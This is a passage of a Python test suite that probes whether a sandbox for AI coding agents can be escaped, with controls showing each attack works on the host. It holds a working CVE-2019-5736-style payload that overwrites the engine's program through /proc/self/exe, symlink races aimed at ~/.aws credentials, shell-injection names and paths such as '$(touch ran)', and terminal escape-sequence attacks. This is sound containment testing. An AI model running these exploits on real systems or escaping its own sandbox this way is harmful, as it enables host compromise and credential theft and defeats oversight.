"""Tries to get out of a sandbox, by the method of probes/: effects at the target, and controls that show both work."""

from __future__ import annotations

import contextlib
import hashlib
import os
import re
import secrets
import shlex
import shutil
import signal
import subprocess
import threading
import time
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.probes import report as told
from tests.e2e.probes.catalogue import PROBES, Granted, Probe, hold_vsock
from tests.e2e.probes.engine import Engine, EngineError
from tests.e2e.probes.inside.kernel import rename_exchange
from tests.e2e.probes.matrix import BACKENDS, Cell, Matrix
from tests.e2e.probes.report import Report
from tests.e2e.probes.stage import PYTHON, ROOT, Stage, machines_of, staged, start_display, until
from tests.e2e.probes.watching import (
    command_lines_with,
    environments_with,
    files_with,
    gone,
    obeyed_sequences,
    terminal_output,
)

pytestmark = pytest.mark.probe

NETWORKS = ("on", "off")


@pytest.fixture(scope="module", params=BACKENDS)
def matrix(request: pytest.FixtureRequest) -> Iterator[Matrix]:
    if os.geteuid() != 0:
        pytest.skip("only root can make the account, and plant what only root may read")
    if not os.path.exists(PYTHON):
        pytest.skip(f"the attempts run by {PYTHON}, which is not there")
    backend = BACKENDS[request.param]
    if shutil.which(backend.program) is None:
        pytest.skip(f"{backend.program} is not installed")
    for path in backend.files:
        if not os.path.exists(path):
            pytest.skip(f"{path} is not there")
    with staged() as made:
        yield Matrix(made, backend)


@pytest.fixture(scope="module")
def stage(matrix: Matrix) -> Stage:
    return matrix.stage


@pytest.fixture(scope="module")
def container(matrix: Matrix) -> Matrix:
    """The same, for what is about containers alone (see conftest.py)."""
    return matrix


@pytest.fixture(scope="module")
def report(matrix: Matrix) -> Iterator[Report]:
    made = Report(matrix.backend.name)
    held = hold_vsock()
    yield made
    if held is not None:
        held.close()
    # A run of a few chosen probes must not pass for the whole.
    applying = [probe for probe in PROBES if probe.applies(matrix.backend.kind)]
    expected = {row(probe, owner)[0] for probe in applying for owner in probe.owners if owner in matrix.backend.owners}
    made.write(told.destination(matrix.backend.name if made.covers(expected) else f"{matrix.backend.name}-partial"))


def row(probe: Probe, owner: str) -> tuple[str, int | None, str]:
    """The key, number and words of a probe's row."""
    return (probe.key if owner == "account" else f"{probe.key} (root's sandbox)"), probe.number, probe.words


def skip_unless_possible(probe: Probe, report: Report, matrix: Matrix, owner: str, column: str) -> None:
    reason = probe.unless(matrix.stage)
    if not reason and probe.variant == "own":
        reason = matrix.backend.made_by_account(matrix.stage)
    if reason:
        report.note(*row(probe, owner), column, f"skipped: {reason}")
        pytest.skip(reason)


CASES = [
    pytest.param(probe, owner, network, pane, id=f"{probe.key}-{owner}-{network}{'-pane' if pane else ''}")
    for probe in PROBES
    for owner in probe.owners
    for network in NETWORKS
    for pane in ((False, True) if probe.pane else (False,))
]


@pytest.mark.parametrize("probe,owner,network,pane", CASES)
def test_held(matrix: Matrix, report: Report, probe: Probe, owner: str, network: str, pane: bool) -> None:
    """From inside, nothing arrives at the target."""
    column = f"network {network}"
    skip_unless_possible(probe, report, matrix, owner, column)
    reached = matrix.tried_inside(probe, Cell(probe.variant, owner, network), pane)
    designed = network in probe.by_design or matrix.backend.name in probe.known_in
    report.note(*row(probe, owner), column, (told.DESIGN if designed else told.REACHED) if reached else told.HELD)
    assert designed or not reached, matrix.last_evidence


@pytest.mark.parametrize("probe", [pytest.param(probe, id=probe.key) for probe in PROBES])
def test_works_outside(matrix: Matrix, report: Report, probe: Probe) -> None:
    """The same code reaches its target from the host: what held was the sandbox."""
    skip_unless_possible(probe, report, matrix, probe.owners[0], "outside")
    if probe.control not in ("account", "root"):
        report.note(*row(probe, probe.owners[0]), "outside", f"skipped: {probe.control}")
        pytest.skip(probe.control)
    reached = matrix.tried_outside(probe)
    report.note(*row(probe, probe.owners[0]), "outside", told.SHOWN if reached else told.NOT_SHOWN)
    assert reached


@pytest.mark.parametrize("probe", [pytest.param(probe, id=probe.key) for probe in PROBES])
def test_can_fail(matrix: Matrix, report: Report, probe: Probe) -> None:
    """And from a sandbox whose protection is taken away: the probe notices."""
    skip_unless_possible(probe, report, matrix, probe.owners[0], "without it")
    reason = probe.away if isinstance(probe.away, str) else ""
    if isinstance(probe.away, Granted):
        reason = matrix.backend.ungrantable(probe.variant, probe.away.params)
    if reason:
        report.note(*row(probe, probe.owners[0]), "without it", f"skipped: {reason}")
        pytest.skip(reason)
    reached = matrix.tried_without(probe)
    report.note(*row(probe, probe.owners[0]), "without it", told.SHOWN if reached else told.NOT_SHOWN)
    assert reached


# Stories that take more than one attempt


MAIN = Cell("main", "account", "on")


def own_cell(matrix: Matrix) -> Cell:
    """A sandbox that the account made for itself, running."""
    reason = matrix.backend.made_by_account(matrix.stage)
    if reason:
        pytest.skip(reason)
    cell = Cell("own", "account", "on")
    matrix.facts(cell)
    return cell


def test_saved_on_the_host(matrix: Matrix, report: Report) -> None:
    """Who saves a file replaces it, and so takes away what is mounted on its name in every other mount namespace."""
    home = matrix.stage.home / ".claude"
    with report.scenario("saved-on-host", None, "write what ~/.claude obeys after the host has saved it anew"):
        matrix.start("saved", MAIN)
        os.rename(matrix.stage.plant(home / "settings.json.new", '{"new": 1}\n'), home / "settings.json")
        os.rename(home / "agents", home / "agents.old")
        matrix.stage.plant(home / "agents/own.md", "own\n")
        paths = [str(home / "settings.json"), str(home / "agents/evil.md")]
        matrix.inside(MAIN, "write", {"paths": paths, "text": "evil\n"}, "saved")
        assert (home / "settings.json").read_text() == '{"new": 1}\n'
        assert [path.name for path in (home / "agents").iterdir()] == ["own.md"]
    matrix.engine("main").remove("saved")


def test_links_of_dotfiles(matrix: Matrix, report: Report, stage: Stage) -> None:
    """Many keep ~/.claude/settings.json as a link into a folder of dotfiles, and work on that folder, too."""
    home, dotfiles = stage.home / ".claude", stage.home / "dotfiles"
    stage.plant(dotfiles / "settings.json", "{}\n")
    stage.plant(dotfiles / "agents/own.md", "own\n")
    kept = {name: home / f"{name}.kept" for name in ("settings.json", "agents")}
    for name, path in kept.items():
        os.rename(home / name, path)
        os.symlink(f"../dotfiles/{name}", home / name)
    try:
        with report.scenario("dotfiles", None, "replace links in ~/.claude that lead into the project"):
            cell = Cell("main", "account", "on")
            shutil.copytree(stage.code / "inside", dotfiles / ".probe/inside")
            stage.account.own(dotfiles)
            matrix.start("dotfiles", cell, project_dir=str(dotfiles))
            paths = [str(home / name) for name in kept]
            argv = stage.attempt_argv("replace", {"paths": paths, "text": "evil\n"})
            env = {"PYTHONPATH": str(dotfiles / ".probe")}
            matrix.engine("main").ask("execute", name="dotfiles", argv=argv, env=env)
            assert [os.readlink(home / name) for name in kept] == [f"../dotfiles/{name}" for name in kept]
            assert (home / "settings.json").read_text() == "{}\n"
    finally:
        matrix.engine("main").remove("dotfiles")
        for name, path in kept.items():
            remove(home / name)
            os.rename(path, home / name)


def remove(path: Path) -> None:
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    else:
        path.unlink(missing_ok=True)


def test_link_in_place_of_display_folder(matrix: Matrix, report: Report, stage: Stage) -> None:
    """bwrap follows links on the way to where it mounts, and while it does, the host stands under /oldroot.

    Root, which makes a container's mounts, could follow them into the host as it is.
    """
    target = stage.home / "made-by-link"
    target.mkdir()
    os.chown(target, *stage.ids)
    words = "have a file made on the host, by a link in the place of a folder that is mounted below"
    with report.scenario("mount-through-link", 4, words):
        matrix.start("links", MAIN)
        given = {"path": "/tmp/.X11-unix", "target": f"{matrix.backend.host_root}{target}"}
        matrix.inside(MAIN, "swap_for_link", given, "links")
        with contextlib.suppress(EngineError):
            matrix.engine("main").again("links")
        assert list(target.iterdir()) == []
    matrix.engine("main").remove("links")


def test_link_on_the_way_to_a_mount(matrix: Matrix, report: Report, stage: Stage) -> None:
    """The same with `mounts:` whose target lies in the project, where the sandbox can put links."""
    target = stage.account.project("made-by-mount")
    with report.scenario("target-through-link", 5, "the same by a link in the project, below which `mounts:` mounts"):
        project, source = stage.project("targets"), stage.project("mounted")
        os.symlink(f"{matrix.backend.host_root}{target}", project / "sub")
        mount = {"source": str(source), "target": f"{project}/sub/new"}
        with contextlib.suppress(EngineError):
            matrix.start("targets", MAIN, mounts=[mount])
        assert list(target.iterdir()) == []
    matrix.engine("main").remove("targets")


def test_source_swapped_in_a_race(matrix: Matrix, report: Report, stage: Stage) -> None:
    """A folder of the project that is mounted elsewhere, exchanged for a link to a secret again and again."""
    project = stage.project("race")
    source, link, secret = project / "source", project / "link", stage.home / ".aws"
    stage.plant(source / "credentials", "harmless\n")
    os.symlink(secret, link)
    bare = ["bwrap", "--dev-bind", "/", "/", "--ro-bind", str(source), "/mnt", "cat", "/mnt/credentials"]
    with swapping(source, link):
        seen = until(lambda: stage.token in stage.engine.outside(bare, stage.ids, {})["out"])
        report.note("swapped-source", 5, "", "without it", told.SHOWN if seen else told.NOT_SHOWN)
    assert seen
    words = "have a secret mounted by exchanging a source of `mounts:` for a link while the sandbox starts"
    with report.scenario("swapped-source", 5, words):
        for _ in range(8):
            with swapping(source, link), contextlib.suppress(EngineError):
                matrix.start("race", MAIN, mounts=[{"source": str(source), "target": "/mnt/source"}])
                found = matrix.inside(MAIN, "read", {"paths": ["/mnt/source/credentials"]}, "race")
                assert stage.token not in str(found)
            matrix.engine("main").remove("race")
    assert matrix.engine("main").ask("facts", name="race") is None


@contextlib.contextmanager
def swapping(one: Path, other: Path) -> Iterator[None]:
    """Have two names change places as fast as one processor can."""
    stop = threading.Event()

    def swap() -> None:
        while not stop.is_set():
            rename_exchange(str(one), str(other))

    thread = threading.Thread(target=swap)
    thread.start()
    try:
        yield
    finally:
        stop.set()
        thread.join()
        if one.is_symlink():
            rename_exchange(str(one), str(other))


def test_project_swapped_for_a_link(matrix: Matrix, report: Report, stage: Stage) -> None:
    """What was a project when the sandbox was made is a link to a secret when it is started again."""
    with report.scenario("swapped-project", 5, "have a secret mounted by exchanging the project for a link"):
        matrix.start("swapped", MAIN)
        project = stage.project("swapped")
        os.rename(project, f"{project}-moved")
        os.symlink(stage.home / ".aws", project)
        with pytest.raises(EngineError, match="symbolic link"):
            matrix.engine("main").again("swapped")
    remove(project)
    os.rename(f"{project}-moved", project)
    matrix.engine("main").remove("swapped")


def test_display_of_the_host_stays(matrix: Matrix, report: Report, stage: Stage) -> None:
    """A desktop's X server and those of the sandboxes are all different ones, and keep their sockets."""
    cookie = stage.display["cookie"]
    with contextlib.ExitStack() as held:
        number = start_display(stage.account, cookie, held)
        path = f"/tmp/.X11-unix/X{number}"
        assert matrix.outside("account", "display", {"path": path, "cookie": cookie})
        with report.scenario("stolen-display", 20, "take the socket of the host's or a sibling's display away"):
            numbers = [matrix.start(name, MAIN)["instance"]["display"] for name in ("screen-1", "screen-2")]
            assert matrix.outside("account", "display", {"path": path, "cookie": cookie})
            assert len({*numbers, int(number)}) == 3
    for name in ("screen-1", "screen-2"):
        matrix.engine("main").remove(name)


# The first line has the kernel run whatever program just entered the sandbox, which then is the engine's own.
# The second ends it where that program is a shell.
PAYLOAD = """#!/proc/self/exe
''':'; exit 0 #'''
import os
program = os.open("/proc/self/exe", os.O_RDONLY)
os.set_inheritable(program, True)
try:
    os.fchmod(program, 0o755)
except OSError:
    pass
if os.fork() == 0:
    os.setsid()
    for stream in (0, 1, 2):
        os.dup2(os.open("/dev/null", os.O_RDWR), stream)
    os.chdir(FOLDER)
    script = 'for i in 1 2 3 4 5 6 7 8 9 10 11 12; do sleep 0.1; echo evil >>/proc/self/fd/%d; done; echo >tried'
    os.execv("/bin/sh", ["sh", "-c", script % program])
"""


def python_of(stage: Stage, owner: str, mode: int, name: str) -> Path:
    """A Python that belongs to the account, as one of ~/.pyenv or a ~/.venv does, or to root."""
    program = (stage.root_top if owner == "root" else stage.code) / name
    shutil.copy(os.path.realpath(PYTHON), program)
    if owner != "root":
        stage.account.own(program)
    program.chmod(mode)
    return program


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.parametrize(
    "owner,mode",
    [
        pytest.param("account", 0o755, id="account"),
        # Whoever owns it can make it writable.
        pytest.param("account", 0o555, id="account-read-only"),
        pytest.param("root", 0o755, id="root"),
    ],
)
def test_engine_program_overwritten(matrix: Matrix, report: Report, stage: Stage, owner: str, mode: int) -> None:
    """CVE-2019-5736: what enters a sandbox is still the host's program when something inside gets to run it."""
    key = "engine-program (root's sandbox)" if owner == "root" else "engine-program"
    words = "overwrite the engine's own Python, as a program that is run by exec (CVE-2019-5736)"
    with report.scenario(key, None, words):
        cell = Cell("main", "root", "on") if owner == "root" else own_cell(matrix)
    matrix.facts(cell)
    project, engine = stage.project(cell.name, owner), matrix.engine(cell.variant)
    program = python_of(stage, owner, mode, f"python3-entering-{mode:o}")
    before, tried = digest(program), project / "tried"
    payload = stage.plant(project / "payload", PAYLOAD.replace("FOLDER", repr(str(project))), 0o700)
    os.chown(payload, *(ROOT if owner == "root" else stage.ids))
    tried.unlink(missing_ok=True)
    with report.scenario(key, None, words):
        argv = ["/bin/sh", "-c", "mkdir -p ~/.local/bin && cp payload ~/.local/bin/git"]
        engine.ask("execute", name=cell.name, argv=argv, env={})
        # Whether it runs at all is not what this is about: it may be refused, or come to nothing.
        with stage.engine_by(program, owner) as entering, contextlib.suppress(EngineError):
            entering.ask("execute", name=cell.name, argv=["git", "status"], env={}, timeout=3)
        until(tried.exists, 2.5)
        assert digest(program) == before
    engine.ask("execute", name=cell.name, argv=["/bin/sh", "-c", "rm ~/.local/bin/git"], env={})


def test_engine_program_control(report: Report, stage: Stage) -> None:
    """The same payload overwrites such a program on the host, also one that is read-only."""
    program = python_of(stage, "account", 0o555, "python3-control")
    before = digest(program)
    payload = stage.plant(stage.code / "payload", PAYLOAD.replace("FOLDER", repr(str(stage.code))), 0o700)
    stage.engine.outside([str(program), str(payload)], stage.ids, {})
    shown = until(lambda: digest(program) != before, 3)
    report.note("engine-program", None, "", "outside", told.SHOWN if shown else told.NOT_SHOWN)
    assert shown


@pytest.mark.parametrize("variant", ["main", "own"])
def test_who_enters_is_safe(matrix: Matrix, report: Report, stage: Stage, variant: str) -> None:
    """Between coming in and becoming the command, the engine's process is there to be traced, read and followed."""
    with report.scenario("who-enters", 10, "trace, read or follow the engine's process while it enters the sandbox"):
        cell = own_cell(matrix) if variant == "own" else Cell(variant, "account", "on")
        ready = Path(matrix.facts(cell)["view"]["project_dir"]) / "watching"
        given = {"seconds": 2.0, "ready": str(ready), "paths": [str(stage.home / ".netrc")]}
        wait = matrix.agent_begins(cell, "watch_who_comes", given)
        assert until(ready.exists)
        for _ in range(12):
            matrix.engine(variant).ask("execute", name=cell.name, argv=["true"], env={})
        found = wait()
        assert found["came"] > 0
        assert found["got"] == []


@pytest.mark.parametrize("owner", ["account", "root"])
@pytest.mark.parametrize("network", NETWORKS)
def test_exec_is_bound_as_the_agent(matrix: Matrix, report: Report, owner: str, network: str) -> None:
    cell = Cell("main", owner, network)
    column = f"network {network}"
    with report.scenario("exec-like-agent", 12, "have other rights by exec than the agent has", column):
        beside, agent = matrix.inside(cell, "status", {}), matrix.by_agent(cell, "status", {})
        if matrix.backend.kind == "container":
            # systemd-nspawn has filters of its own around its program; exec-calls compares what both let pass.
            for each in (beside, agent):
                assert int(each.pop("Seccomp_filters")) > 0
        assert beside == agent
        kinds = ("mnt", "pid", "net", "ipc", "uts", "cgroup", "user")
        paths = {"paths": [f"/proc/self/ns/{kind}" for kind in kinds]}
        assert matrix.inside(cell, "links", paths) == matrix.by_agent(cell, "links", paths)


def test_exec_calls_as_the_agent(matrix: Matrix, report: Report) -> None:
    """What the agent leaves in its PATH is run by exec, too: it must not get at more of the kernel there."""
    with report.scenario("exec-calls", 12, "have system calls by exec that the agent has not"):
        assert matrix.inside(MAIN, "calls_that_pass", {}) == matrix.by_agent(MAIN, "calls_that_pass", {})


def test_hostile_transcripts(matrix: Matrix, report: Report, stage: Stage) -> None:
    """Pipes, devices, a file of a terabyte, a line that grows twentyfold: whoever reads them goes on."""
    with report.scenario("transcripts", 6, "hang who reads the usage, or fill its memory"):
        project = matrix.start("scribe", MAIN)["view"]["project_dir"]
        folder = stage.home / ".claude/projects" / re.sub(r"[^A-Za-z0-9]", "-", project)
        # Its session file is named by the agent's pid.
        session = stage.home / f".claude/sessions/{matrix.backend.agent_pid}.json"
        given = {"folder": str(folder), "session": str(session)}
        made = matrix.inside(MAIN, "hostile_transcripts", given, "scribe")
        assert made["pipe"] == made["sparse"] == made["bomb"] == made["session"] == "ok"
        assert (folder / "sparse.jsonl").exists(), "the transcripts of this project are elsewhere"
        with stage.root_engine() as engine:
            found = engine.ask("usage", name="scribe")
        assert found["seconds"] < 20
        assert found["peak"] < 1 << 30
        shutil.rmtree(folder)
    matrix.engine("main").remove("scribe")


def attach(facts: Mapping[str, Any]) -> list[str]:
    return ["tmux", "-S", facts["view"]["tmux_socket"], "attach"]


def test_terminal_of_who_looks_on(matrix: Matrix, report: Report, stage: Stage) -> None:
    """Clipboard, titles, notifications and what is wrapped for the terminal outside stay in the sandbox's own one."""
    text, ran = stage.token, stage.home / "ran-by-status-line"
    given = {"text": text, "command": f"touch {ran}"}
    with report.scenario("escape-sequences", 33, "reach the terminal, clipboard or status line of whoever looks on"):
        facts = matrix.facts(MAIN)

        def speak() -> Iterator[object]:
            yield matrix.by_agent(MAIN, "speak_to_terminal", given)

        seen = terminal_output(attach(facts), stage.account, 0.7, speak())
        assert facts["view"]["name"].encode() in seen, "nobody looked on"
        assert obeyed_sequences(seen, text) == []
        assert not ran.exists()


def test_terminal_control(report: Report, stage: Stage) -> None:
    """Printed to a terminal as it is, and through a tmux that lets all pass, they arrive."""
    given = {"text": stage.token, "command": "true"}
    argv = ["env", f"PYTHONPATH={stage.code}", *stage.attempt_argv("speak_to_terminal", given)]
    plain = obeyed_sequences(terminal_output(argv, stage.account, 0.5), stage.token)
    report.note("escape-sequences", 33, "", "outside", told.SHOWN if plain else told.NOT_SHOWN)
    assert len(plain) >= 10
    settings = "set -s set-clipboard on ; set -g allow-passthrough on ; set -g set-titles on".split()
    open_tmux = ["tmux", "-f", "/dev/null", "-S", f"{stage.home}/open-tmux", "start-server", ";", *settings, ";"]
    open_tmux += ["new-session", f"sleep 0.3; {shlex.join(argv)}; sleep 1"]
    passed = obeyed_sequences(terminal_output(open_tmux, stage.account, 1.5), stage.token)
    report.note("escape-sequences", 33, "", "without it", told.SHOWN if passed else told.NOT_SHOWN)
    assert passed


def test_api_key_stays_inside(matrix: Matrix, report: Report, stage: Stage) -> None:
    """The key is in the agent's environment, in one file that only the account may read, and nowhere else."""
    with report.scenario("api-key", 28, "find the API key in a command line, tmux, the record, a log, a left-over"):
        facts = matrix.start("secret", MAIN)
        instance, key = facts["instance"], stage.api_key
        assert stage.api_key in str(matrix.inside(MAIN, "environment", {}, "secret"))
        secrets_file = f"{facts['data']}/secrets.json"
        places = [facts["record"], instance["folder"], facts["store"], stage.project("secret"), "/run/claude-sandbox"]
        assert set(files_with(key, places)) <= {secrets_file}
        assert os.stat(secrets_file).st_mode & 0o077 == 0
        assert command_lines_with(key) == []
        assert environments_with(key) == []
        shown = ["tmux", "-S", f"{instance['folder']}/tmux", "show-environment"]
        for scope in (["-g"], []):
            assert key not in stage.engine.outside([*shown, *scope], stage.ids, {})["out"]
        matrix.engine("main").remove("secret")
        assert not os.path.exists(facts["record"])
        assert not os.path.exists(facts["store"])
        assert files_with(key, [stage.project("secret"), "/run/claude-sandbox"]) == []


def test_api_key_control(report: Report, stage: Stage) -> None:
    """The search finds a key that is where it must not be."""
    planted = stage.plant(stage.account.root / "leak/log", f"x {stage.api_key} y")
    leak = subprocess.Popen([PYTHON, "-c", "import sys; sys.stdin.read()", stage.api_key], stdin=subprocess.PIPE)
    try:
        # While it becomes that program, a process has no command line.
        until(lambda: bool(command_lines_with(stage.api_key)), 5)
        found = command_lines_with(stage.api_key), files_with(stage.api_key, [planted.parent])
    finally:
        leak.communicate()
        planted.unlink()
    shown = found == ([leak.pid], [str(planted)])
    report.note("api-key", 28, "", "outside", told.SHOWN if shown else told.NOT_SHOWN)
    assert shown, (leak.pid, found)


def test_killed_session(matrix: Matrix, report: Report, stage: Stage) -> None:
    """SIGKILL to the tmux server takes the sandbox with it; to the X server, nothing; then it starts again."""
    engine = matrix.engine("main")
    with report.scenario("killed-parts", 30, "live on when the session or the display is killed"):
        instance = matrix.start("killed", MAIN)["instance"]
        os.kill(instance["xvfb"]["pid"], signal.SIGKILL)
        assert gone(instance["xvfb"]["pid"]) == []
        assert engine.ask("facts", name="killed")["view"]["status"] == "running"
        os.kill(instance["server"]["pid"], signal.SIGKILL)
        assert gone(instance["server"]["pid"], instance["pane"]["pid"], instance["init"]["pid"]) == []
        assert engine.ask("facts", name="killed")["view"]["status"] == "dead"
        assert matrix.start("killed", MAIN)["view"]["status"] == "running"
        engine.remove("killed")


def test_killed_engine(matrix: Matrix, report: Report, stage: Stage) -> None:
    """SIGKILL to the engine in the middle of a start: the next one finds what there is, and cleans up."""
    params: dict[str, Any] = {"project_dir": str(stage.project("halfway")), "agent": ["shell"]}
    params |= matrix.backend.params
    with report.scenario("killed-engine", 30, "be left behind by an engine that is killed while it starts a sandbox"):
        for delay in (0.02, 0.05, 0.08, 0.11):
            with stage.root_engine() as engine:
                engine.ask("names")
                engine.send("ensure", name="halfway", state="started", params=params, api_key=None)
                time.sleep(delay)
                engine.kill()
            # Its child, which works under the account, still holds the sandbox for a moment.
            assert until(lambda: removed(matrix.engine("main"), "halfway"), 30)
            left = [pid for pid in stage.account.processes() if halfway(pid, stage)]
            left += command_lines_with("--machine=halfway-")
            assert [name for name in machines_of(stage.account.uid) if name.startswith("halfway-")] == []
            assert left == [], delay


def removed(engine: Engine, name: str) -> bool:
    """Whether a sandbox could be destroyed, or is not there."""
    try:
        engine.remove(name)
    except EngineError:
        return False
    return True


def halfway(pid: int, stage: Stage) -> bool:
    """Whether a process belongs to the sandbox of the test above."""
    try:
        folders = [os.readlink(f"/proc/{pid}/cwd"), os.readlink(f"/proc/{pid}/root")]
        command = Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace")
    except OSError:
        return False
    known = {Path(folder).name for folder in stage.engine.ask("names")}
    return str(stage.project("halfway")) in folders or ("Xvfb" in command and _orphan(command, stage, known))


def _orphan(command: str, stage: Stage, names: set[str]) -> bool:
    """Whether an X server has a folder that no sandbox of ours uses."""
    facts = [stage.engine.ask("facts", name=name) for name in names]
    own = [stage.own_engine.ask("facts", name=name) for name in stage.own_engine.ask("names")]
    folders = [each["instance"]["folder"] for each in (*facts, *own) if each and each["instance"]]
    return "/xauth" in command and not any(folder in command for folder in folders)


def test_killed_while_inside(matrix: Matrix, report: Report, stage: Stage) -> None:
    """A command that was run inside ends with whoever ran it."""
    with report.scenario("killed-exec", 30, "live on as a command whose engine was killed"):
        matrix.facts(MAIN)
        seconds = f"61.{secrets.randbelow(1 << 40)}"
        try:
            with stage.root_engine() as engine:
                engine.send("execute", name=MAIN.name, argv=["sleep", seconds], env={})
                assert until(lambda: len(command_lines_with(seconds)) > 0)
                engine.kill()
            assert until(lambda: command_lines_with(seconds) == [], 3)
        finally:
            for pid in command_lines_with(seconds):
                os.kill(pid, signal.SIGKILL)


@pytest.mark.parametrize(
    "name",
    ["; touch ran", "$(touch ran)", "`touch ran`", "a\nb", "a,b", "-rf", "..", ".", "a/b", "a b", "ñ", "x" * 4000, ""],
)
def test_hostile_names(matrix: Matrix, report: Report, stage: Stage, name: str) -> None:
    """A name is a name, or refused."""
    with report.scenario("hostile-names", 31, "have a name obeyed"):
        ran = stage.account.root / "ran"
        with pytest.raises(EngineError):
            matrix.engine("main").start(name, project_dir=str(stage.project("names")), agent=["shell"])
        assert not ran.exists()
        assert name not in matrix.engine("main").ask("names")


def test_hostile_project_path(matrix: Matrix, report: Report, stage: Stage) -> None:
    """A project whose path a shell, tmux or bwrap might take for something else works like any other."""
    words = "have a project's path obeyed: ; $() ` quotes spaces # { } commas, unicode, a leading dash"
    with report.scenario("hostile-path", 31, words):
        ran = stage.account.root / "ran"
        path = stage.account.project("-a b;$(touch ran)`touch ran`'\"#{pane_pid},é%H")
        matrix.engine("main").start("odd", project_dir=str(path), agent=["shell"])
        argv = ["/bin/sh", "-c", "pwd; echo from-inside >file"]
        done = matrix.engine("main").ask("execute", name="odd", argv=argv, env={})
        assert done["out"] == f"{path}\n"
        assert (path / "file").read_text() == "from-inside\n"
        assert not ran.exists()
        assert not (path / "ran").exists()
        matrix.engine("main").remove("odd")
    with pytest.raises(EngineError, match="control character"):
        matrix.engine("main").start("odd", project_dir=f"{path}\nx", agent=["shell"])


def test_nix_daemon_without_network(matrix: Matrix, report: Report, stage: Stage) -> None:
    """The daemon fetches for whoever asks: with the network off it is not granted."""
    with report.scenario("nix-grant", 27, "be granted the Nix daemon with the network off", "network off"):
        with pytest.raises(EngineError, match="fetches for whoever asks"):
            matrix.start("nix", Cell("main", "account", "off"), grants={"nix": True})
        assert "nix" not in matrix.engine("main").ask("names")


# What is a container's alone


NOTES = ("READY=1", "STOPPING=1", "MAINPID=1", "FDSTORE=1", "X_NSPAWN_LEADER_PID=1", "WATCHDOG=trigger", "x" * 4096)


@pytest.mark.parametrize("owner", ["account", "root"])
def test_folder_of_the_host(container: Matrix, report: Report, owner: str) -> None:
    """/run/host is what systemd-nspawn leaves open towards itself: a socket, and a folder for mounts to come."""
    cell = Cell("main", owner, "on")
    key = "run-host (root's sandbox)" if owner == "root" else "run-host"
    with report.scenario(key, None, "change something by /run/host: its socket, the folder for mounts, what it tells"):
        init = container.facts(cell)["instance"]["init"]["pid"]
        names = ["container-manager", "container-uuid", "os-release", "incoming", "incoming/new", "new", "notify"]
        paths = [f"/run/host/{name}" for name in names]
        release = digest(Path("/usr/lib/os-release"))
        before = contents_below(Path(f"/proc/{init}/root/run/host"))
        assert before, "there is no /run/host"
        assert "ok" not in container.inside(cell, "write", {"paths": paths, "text": "evil\n"}).values()
        container.inside(cell, "replace", {"paths": paths, "text": "evil\n"})
        for note in NOTES:
            container.inside(cell, "unix_datagram", {"path": "/run/host/notify", "text": note})
        assert contents_below(Path(f"/proc/{init}/root/run/host")) == before
        assert digest(Path("/usr/lib/os-release")) == release
        assert container.inside(cell, "read", {"paths": ["/run/host/incoming"]}) == {}
        assert container.engine("main").ask("facts", name=cell.name)["view"]["status"] == "running"


def contents_below(top: Path) -> list[tuple[str, int, int]]:
    return sorted((str(path), path.lstat().st_ino, path.lstat().st_mode) for path in top.rglob("*"))


GARBAGE = "; touch {0} #$(touch {0})`touch {0}`\x1d\x1d\x1d\x03\x1a\x1c"


def test_garbage_from_the_account(container: Matrix, report: Report, stage: Stage) -> None:
    """What the account writes to where root's supervisor reads and writes is taken for nothing but a code."""
    engine, ran = container.engine("main"), stage.account.root / "ran-as-root"
    words = "have root's supervisor do something by what the account writes to its terminal, status file and pipe"
    with report.scenario("supervisor", None, words):
        instance = container.start("garbage", MAIN)["instance"]
        text, pane = GARBAGE.format(ran), instance["pane"]["pid"]
        supervisors = [pid for pid in command_lines_with("--machine=garbage-") if (os.stat(f"/proc/{pid}").st_uid == 0)]
        assert supervisors
        # The pipe comes last: by it the pane ends.
        for path in (f"/proc/{pane}/fd/2", f"{instance['folder']}/launch/status", f"/proc/{pane}/fd/4"):
            argv = [PYTHON, "-c", WRITE, path, text]
            done = stage.engine.outside(argv, stage.ids, {})
            assert done["out"].strip(), "the account could not write there"
        for number in (0, 1, 2, 3, 4):
            argv = [PYTHON, "-c", WRITE, f"/proc/{supervisors[0]}/fd/{number}", text]
            assert stage.engine.outside(argv, stage.ids, {})["code"] != 0, "the account has root's descriptors"
        assert engine.ask("facts", name="garbage")["view"]["status"] in ("running", "dead")
        container.start("garbage", MAIN)
        engine.remove("garbage")
        assert not ran.exists()
        assert gone(*supervisors) == []
        assert command_lines_with("--machine=garbage-") == []


WRITE = """
import os, sys
descriptor = os.open(sys.argv[1], os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK)
print(os.write(descriptor, sys.argv[2].encode() + b"\\n"))
"""


def test_status_by_way_of_links(container: Matrix, report: Report, stage: Stage) -> None:
    """The account's own folder is what root looks into for how the program ended."""
    engine, name = container.engine("main"), "ended"
    with report.scenario("status-links", 5, "have root tell what only it may read, by links in the runtime folder"):
        folder = container.start(name, MAIN)["instance"]["folder"]
        secret = stage.plant(stage.root_top / "status", "57\n", owner=ROOT)
        engine.ask("type", name=name, text="exit 3")
        assert until(lambda: engine.ask("facts", name=name)["view"]["status"] == "dead", 5)
        for path, points_to in ((f"{folder}/launch/status", secret), (f"{folder}/launch", secret.parent)):
            os.rename(path, f"{path}-away")
            os.symlink(points_to, path)
            assert (path, engine.ask("facts", name=name)["view"]["exit_code"]) != (path, 57)
            os.unlink(path)
            os.rename(f"{path}-away", path)
        engine.remove(name)
        assert secret.read_text() == "57\n"


SLACK = 4321  # nanoseconds


def test_switch_for_a_file(container: Matrix, report: Report, stage: Stage) -> None:
    """Some files ask for the rights of who writes, and not of who opened them: root's supervisor writes a code.

    Who asks root for a container is as hostile as the account (see privileged.serving), and so are its descriptors.
    """
    process, pipe = subprocess.Popen(["sleep", "600"]), stage.home / "ordered"
    # Everybody may open it; to write there is for root, and for the process itself.
    switch = Path(f"/proc/{process.pid}/timerslack_ns")
    key, words = "switch-for-pane", "have root's supervisor write to a file of /proc, given to it as its pane's pipe"
    order = {"do": "order", "name": stage.account.name, "label": stage.token}
    os.mkfifo(pipe, 0o600)
    os.chown(pipe, *stage.ids)
    try:
        refused = stage.engine.outside(["/bin/sh", "-c", f"echo 7 >{switch}"], stage.ids, {})
        assert refused["code"] != 0, "the account itself may write there"
        switch.write_text(f"{SLACK}\n")
        shown = int(switch.read_text()) == SLACK
